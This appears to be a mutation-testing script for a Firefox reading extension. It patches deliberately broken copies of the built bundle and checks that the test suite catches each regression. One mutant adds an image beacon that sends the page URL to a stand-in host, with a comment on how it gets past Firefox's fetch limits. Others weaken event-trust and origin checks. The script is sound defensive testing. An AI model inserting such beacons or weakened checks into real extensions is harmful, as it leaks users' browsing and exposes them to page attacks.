/**
 * Shows the Firefox tests can fail: copies .output/firefox-mv2, breaks one defence (or one step
 * of the journey) in each copy by patching the built bundle, runs the Firefox test file that
 * should catch it against the copy (VNA_FIREFOX_EXTENSION_DIR), and reports which tests failed.
 * A control copy, unpatched, must pass first. Each patch must apply: when the bundle's shape
 * changes, the script says so instead of testing an unbroken copy.
 *
 *   npm run build && npx tsx tests/firefox/mutants.ts [name-filter]
 *
 * Exits non-zero if a mutant goes uncaught, a patch no longer applies, or the control fails.
 */
import { spawnSync } from 'node:child_process';
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { FIREFOX_EXTENSION_DIR } from '../../scripts/lib/firefox';
import { repoRoot } from '../../scripts/lib/repo-root';

const CONTENT = 'content-scripts/content.js';
const BACKGROUND = 'background.js';

interface Mutant {
  name: string;
  file: 'attacks' | 'journey' | 'options' | 'sites';
  /** A substring of the title of the test that must fail. */
  caughtBy: string;
  /** Bundle files and the replacements that break them (each must match at least once). */
  patches: { file: string; find: RegExp; replace: string }[];
}

const MUTANTS: Mutant[] = [
  {
    name: 'synthetic events trusted (every isTrusted check reads true)',
    file: 'attacks',
    caughtBy: 'acts on real input only',
    patches: [{ file: CONTENT, find: /\b[\w$]+\.isTrusted\b/g, replace: '!0' }],
  },
  {
    name: 'UI host is <vna-ui>, a name the page can define first',
    file: 'attacks',
    caughtBy: 'defines the extension’s element names first',
    patches: [
      {
        file: CONTENT,
        find: /createElement\("div"\);([\w$]+)\.setAttribute\("style",([\w$]+)\);const ([\w$]+)=\1\.attachShadow\(\{mode:"closed"\}\)/g,
        replace: 'createElement("vna-ui");$1.setAttribute("style",$2);const $3=$1.attachShadow({mode:"closed"})',
      },
    ],
  },
  {
    name: "the reader's highlights also put in the page's highlight registry",
    file: 'attacks',
    caughtBy: 'learns nothing of a note being written',
    patches: [
      {
        file: CONTENT,
        find: /draw\(([\w$]+)\)\{([\w$]+)=\1,/g,
        replace: 'draw($1){CSS.highlights.set("vna-note",new Highlight(...$1.map((b)=>b.range)));$2=$1,',
      },
    ],
  },
  {
    name: 'state written on <html> (as a test build would)',
    file: 'attacks',
    caughtBy: 'learns nothing of a note being written',
    patches: [
      {
        file: CONTENT,
        find: /$/,
        replace: '\n;document.documentElement.setAttribute("data-vna-state","article");\n',
      },
    ],
  },
  {
    name: 'article key from any origin of the site (content script and background)',
    file: 'attacks',
    caughtBy: 'another subdomain that claims an article as canonical',
    patches: [
      { file: CONTENT, find: /if\(([\w$]+)&&[\w$]+&&[\w$]+\(\1\)===[\w$]+\)return \1/g, replace: 'if($1)return $1' },
      { file: BACKGROUND, find: /([\w$]+)&&\1===([\w$]+)\.origin\?null:/g, replace: '!0?null:' },
    ],
  },
  {
    name: "the watch list's names drawn in the page's highlight registry",
    file: 'attacks',
    caughtBy: 'learns nothing of the reader',
    patches: [
      {
        file: CONTENT,
        find: /([\w$]+)\.builtInSpans\.value,([\w$]+)=\1\.settings\.value\.kinds/g,
        replace: '$1.spans.value,$2=$1.settings.value.kinds',
      },
    ],
  },
  {
    name: 'content script on every site',
    file: 'journey',
    caughtBy: 'leaves a host outside its sites alone',
    patches: [{ file: 'manifest.json', find: /"matches":\s*\[[^\]]*\]/g, replace: '"matches":["<all_urls>"]' }],
  },
  {
    name: 'content script deaf to settings changed in the options page',
    file: 'options',
    caughtBy: 'switches a kind off everywhere',
    patches: [{ file: CONTENT, find: /[\w$]+\.storage\.onChanged\.addListener\([\w$]+\)/g, replace: 'void 0' }],
  },
  {
    name: 'the content script reports the page it is on to a server',
    file: 'sites',
    caughtBy: 'sends nothing anywhere',
    patches: [
      {
        file: CONTENT,
        find: /$/,
        // An image beacon: Firefox refuses a content script's fetch to a host it has no permission for
        // before it leaves the browser, but an image is loaded as the page would load it.
        replace: '\n;new Image().src="http://collect.example/hit?u="+encodeURIComponent(location.href);\n',
      },
    ],
  },
  {
    name: "the content script marks the article's paragraphs",
    file: 'sites',
    caughtBy: "changes nothing in the article's DOM",
    patches: [
      {
        file: CONTENT,
        find: /$/,
        replace:
          '\n;for(const p of document.querySelectorAll("article p, .detail-content p"))p.setAttribute("data-read","1");\n',
      },
    ],
  },
  {
    name: 'popup that renders nothing',
    file: 'journey',
    caughtBy: 'the popup finds the note',
    patches: [{ file: 'popup.html', find: /<body>[\s\S]*<\/body>/, replace: '<body></body>' }],
  },
];

function runTests(dir: string, file: string): string[] {
  const run = spawnSync(
    'npx',
    ['vitest', 'run', '--project', 'firefox', `tests/firefox/${file}.firefox.ts`, '--reporter', 'json'],
    { cwd: repoRoot, env: { ...process.env, VNA_FIREFOX_EXTENSION_DIR: dir }, encoding: 'utf8', maxBuffer: 64 << 20 },
  );
  const at = run.stdout.indexOf('{');
  if (at < 0) throw new Error(`vitest printed no report:\n${run.stderr.slice(-2000)}`);
  const json = JSON.parse(run.stdout.slice(at)) as {
    testResults: { assertionResults: { title: string; status: string; failureMessages?: string[] }[] }[];
  };
  const results = json.testResults.flatMap((f) => f.assertionResults);
  if (!results.length) throw new Error(`no test ran:\n${run.stderr.slice(-2000)}`);
  const failed = results.filter((a) => a.status !== 'passed');
  // Why each failed, in one line: a failure for another reason than the break is worth a look.
  for (const a of failed)
    console.log(`           ${a.title}: ${(a.failureMessages?.[0] ?? '').split('\n')[0].slice(0, 200)}`);
  return failed.map((a) => a.title);
}

function copyBuild(): string {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'vna-firefox-mutant-'));
  cpSync(FIREFOX_EXTENSION_DIR, dir, { recursive: true });
  return dir;
}

function main(): number {
  const only = process.argv[2];
  const chosen = MUTANTS.filter((m) => !only || m.name.includes(only));
  let bad = 0;
  for (const file of new Set(chosen.map((m) => m.file))) {
    const dir = copyBuild();
    try {
      const failed = runTests(dir, file);
      console.log(`${failed.length ? 'CONTROL FAILED' : 'control ok'}  ${file}: ${failed.join(' | ') || 'all passed'}`);
      if (failed.length) return 1;
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  }
  for (const m of chosen) {
    const dir = copyBuild();
    try {
      const stale = m.patches.filter((p) => {
        const f = path.join(dir, p.file);
        const before = readFileSync(f, 'utf8');
        const after = before.replace(p.find, p.replace);
        writeFileSync(f, after);
        return after === before;
      });
      if (stale.length) {
        bad++;
        console.log(`STALE    ${m.name}: ${stale.map((p) => `${p.file} ${p.find}`).join('; ')} no longer matches`);
        continue;
      }
      const failed = runTests(dir, m.file);
      const caught = failed.some((t) => t.includes(m.caughtBy));
      if (!caught) bad++;
      console.log(`${caught ? 'caught  ' : 'MISSED  '} ${m.name}: failing tests: ${failed.join(' | ') || 'none'}`);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  }
  console.log(`${chosen.length - bad} of ${chosen.length} mutants caught`);
  return bad ? 1 : 0;
}

process.exit(main());
